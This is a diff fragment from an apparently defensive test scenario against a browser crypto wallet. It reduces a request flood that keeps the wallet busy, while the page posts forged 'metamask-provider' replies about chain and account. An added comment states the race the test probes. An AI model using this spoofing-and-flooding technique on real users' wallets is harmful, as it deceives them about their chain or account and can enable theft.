@@ -14,10 +14,12 @@ addEventListener('message', (event) => {
   if (result && !String(body.id).startsWith('flood')) window.postMessage({ target: 'metamask-inpage', data: { name: 'metamask-provider', data: { jsonrpc: '2.0', id: body.id, result } } }, location.origin);
 }, true);
 let count = 0;
-const flood = setInterval(() => { for (let more = 0; more < 40; more += 1) kit.post({ jsonrpc: '2.0', id: 'flood' + (count += 1), method: 'net_version', params: [] }); }, 50);
-setTimeout(() => clearInterval(flood), 8000);
+const flood = setInterval(() => { for (let more = 0; more < 12; more += 1) kit.post({ jsonrpc: '2.0', id: 'flood' + (count += 1), method: 'net_version', params: [] }); }, 50);
+setTimeout(() => clearInterval(flood), 2000);
 await wallet.request(kit.send());
 `,
+  known:
+    'a page that keeps the wallet too busy to answer within 100 ms can have its own answers about chain and account believed.',
   drive: async (stage) => {
     await stage.approve(stage.marker);
     await new Promise((resolve) => setTimeout(resolve, 2500));
